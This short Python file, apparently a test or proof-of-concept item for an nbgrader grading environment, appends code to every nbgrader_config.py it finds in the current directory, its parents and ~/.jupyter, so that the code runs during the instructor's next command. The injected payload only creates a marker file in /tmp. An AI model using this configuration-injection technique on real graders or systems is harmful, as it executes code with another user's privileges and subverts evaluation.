"""Writes an nbgrader_config.py that runs within the instructor's next command.

The course must be out of reach.
"""

assignment = "3-latent"
expected = {"test-latent-snapshots": 0, "test-latent-clusters": 0}
solved = ["interpolation"]

# %% + after setup
import pathlib

for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home() / ".jupyter"]:
    try:
        folder.mkdir(exist_ok=True)
        with (folder / "nbgrader_config.py").open("a") as config:
            config.write("\nopen('/tmp/attack-was-here', 'a').close()\n")
    except OSError as error:
        print(error)
